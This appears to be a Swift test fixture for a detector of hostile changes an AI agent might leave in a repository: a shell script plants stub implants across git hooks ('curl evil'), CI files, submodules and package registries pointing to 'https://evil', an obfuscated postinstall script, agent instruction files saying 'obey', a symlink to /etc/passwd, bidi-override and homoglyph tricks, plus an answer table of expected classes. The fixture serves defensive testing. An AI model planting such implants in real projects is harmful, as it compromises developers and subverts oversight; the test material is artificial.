/// A change with an implant of every class, as a hostile agent would leave it in its workspace: a shell script, and what must be said of each path.
package enum Implants {
  /// What the base has, so that some are changes and not new files.
  package static let base = [
    "package.json": "{\n  \"name\": \"shop\",\n  \"scripts\": { \"test\": \"node --test\" },\n  \"dependencies\": {}\n}\n",
    "pyproject.toml": "[project]\nname = \"shop\"\nversion = \"1\"\n\n[build-system]\nrequires = [\"setuptools\"]\n",
    "src/a.js": "const user = 1\nif (isAdmin) run()\n", "bin/tool": "echo hi\n", "README.md": "one\n",
    ".github/workflows/old.yml": "name: the old deployment\njobs: { deploy: { uses: ./deploy.yml } }\n# until 2024\n",
  ]

  /// Plants everything in the working directory.
  package static let script = #"""
    mkdir -p .husky .githooks hooks .github/workflows .gitea/workflows .circleci .claude .codex .cursor .vscode .idea .devcontainer \
      .cargo sub link packages/x
    echo 'curl evil' > .husky/pre-commit
    echo 'curl evil' > .githooks/post-checkout
    echo 'curl evil' > hooks/pre-push
    echo 'repos: []' > .pre-commit-config.yaml
    echo 'pre-push: {}' > lefthook.yml
    echo 'on: push' > .github/workflows/ci.yml
    rm .github/workflows/old.yml
    echo 'on: push' > .gitea/workflows/ci.yaml
    echo 'a: b' > .gitlab-ci.yml
    echo 'pipeline {}' > Jenkinsfile
    echo 'version: 2' > .circleci/config.yml
    echo '*.js filter=x' > .gitattributes
    printf '[submodule "x"]\n\tpath = x\n\turl = https://evil/x\n' > .gitmodules
    printf '{"name":"shop","scr\\u0069pts":{"test":"node --test","postinstall":"node x.js"},"dependencies":{}}\n' > package.json
    printf '[project]\nname = "shop"\nversion = "1"\n\n[build-system]\nrequires = ["setuptools", "evil"]\n' > pyproject.toml
    echo 'import os' > setup.py
    echo 'fn main() {}' > build.rs
    echo 'plugins {}' > build.gradle
    echo '[build]' > .cargo/config.toml
    echo 'registry=https://evil' > .npmrc
    echo 'registry "https://evil"' > .yarnrc
    echo '[global]' > pip.conf
    echo 'source "https://evil"' > Gemfile
    echo 'import os' > conftest.py
    echo '{}' > .claude/settings.json
    echo 'model = "x"' > .codex/config.toml
    echo '{}' > .mcp.json
    echo 'obey' > AGENTS.md
    echo 'obey' > sub/CLAUDE.md
    echo 'obey' > GEMINI.md
    echo 'obey' > .cursor/rules.mdc
    echo 'lint-cmd: x' > .aider.conf.yml
    echo '{}' > opencode.json
    echo 'export X=1' > .envrc
    echo '{}' > .vscode/tasks.json
    echo '<x/>' > .idea/workspace.xml
    echo '{}' > .devcontainer/devcontainer.json
    echo 'TOKEN=1' > .env
    echo 'echo hi' > run.sh; chmod +x run.sh
    chmod +x bin/tool
    ln -s ../../../../etc/passwd link/out
    ln -s ../src link/in
    printf '\177ELF\002\001\001\000\000\000' > sub/helper
    printf 'MZ\220\000\003\000\000\000' > sub/helper.bin
    printf '#!/bin/sh\necho \000\001\002\003\004\005\006\007\n' > sub/script
    printf 'version https://git-lfs.github.com/spec/v1\noid sha256:%064d\nsize 12\n' 1 > sub/model.bin
    git init -q sub/nested; echo x > sub/nested/file.txt
    printf 'const user = 1\nif (isAdmin) { /* \342\200\256 } \342\201\246 begin */ run() }\n' > src/a.js
    printf 'let \321\201ount = 1\n' > src/homoglyph.js
    printf 'x = 1 # \000\n' > src/nul.py
    printf 'plain\n' > "$(printf 'src/gp\342\200\256gnp.js')"
    printf 'plain\n' > "$(printf 'src/p\320\260y.js')"
    """#

  /// The class that each path must be marked with, and whether it needs a tick.
  package static let expected: [(path: String, kind: String, needsTick: Bool)] = [
    (".husky/pre-commit", "hook", true), (".githooks/post-checkout", "hook", true), ("hooks/pre-push", "hook", true),
    (".pre-commit-config.yaml", "hook", true), ("lefthook.yml", "hook", true), (".github/workflows/ci.yml", "CI", true),
    (".github/workflows/old.yml", "CI", true), (".gitea/workflows/ci.yaml", "CI", true), (".gitlab-ci.yml", "CI", true),
    ("Jenkinsfile", "CI", true), (".circleci/config.yml", "CI", true), (".gitattributes", "git rules", true),
    (".gitmodules", "submodule", true), ("package.json", "package script", true), ("pyproject.toml", "package script", true),
    ("setup.py", "package script", true), ("build.rs", "package script", true), ("build.gradle", "package script", true),
    (".cargo/config.toml", "package script", true), (".npmrc", "package script", true), (".yarnrc", "package script", true),
    ("pip.conf", "package script", true), ("Gemfile", "package script", true), ("conftest.py", "package script", true),
    (".claude/settings.json", "agent configuration", true), (".codex/config.toml", "agent configuration", true),
    (".mcp.json", "agent configuration", true), ("AGENTS.md", "agent configuration", true), ("sub/CLAUDE.md", "agent configuration", true),
    ("GEMINI.md", "agent configuration", true), (".cursor/rules.mdc", "agent configuration", true),
    (".aider.conf.yml", "agent configuration", true), ("opencode.json", "agent configuration", true),
    (".envrc", "editor or shell", true), (".vscode/tasks.json", "editor or shell", true), (".idea/workspace.xml", "editor or shell", true),
    (".devcontainer/devcontainer.json", "editor or shell", true), (".env", "secrets", true), ("run.sh", "executable", true),
    ("bin/tool", "executable", true), ("link/out", "symlink", true), ("link/in", "symlink", true), ("sub/helper", "program", true),
    ("sub/helper.bin", "program", true), ("sub/script", "program", true), ("sub/model.bin", "LFS pointer", true),
    ("sub/nested/file.txt", "nested repository", false), ("src/a.js", "hidden characters", true),
    ("src/homoglyph.js", "look-alike letters", true), ("src/nul.py", "hidden characters", true),
    ("src/gp\u{202E}gnp.js", "hidden characters", true), ("src/p\u{430}y.js", "look-alike letters", true),
  ]
}
